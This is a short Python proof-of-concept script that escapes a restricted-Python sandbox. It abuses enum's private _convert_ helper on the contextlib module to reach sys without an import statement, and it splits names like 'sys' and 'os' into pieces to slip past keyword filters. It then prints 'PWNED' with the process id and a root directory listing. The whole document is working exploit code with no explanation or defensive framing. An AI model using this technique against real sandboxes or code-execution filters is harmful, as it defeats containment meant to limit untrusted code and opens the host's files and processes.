import enum, operator, contextlib
class MyE(enum.Enum):
    pass
AG = type(operator.attrgetter("name"))
conv = AG("_conv" + "ert_")(MyE)
target = "s" + "ys"
C = conv("Zz", "__main__", lambda n: n == target, source=contextlib)
m = {x.name: x.value for x in C}
s = m[target]
o = s.modules["o" + "s"]
print("PW" + "NED: sys.modules count =", len(s.modules), "os.getpid() =", o.getpid(), "os.listdir('/') =", sorted(o.listdir("/"))[:10])
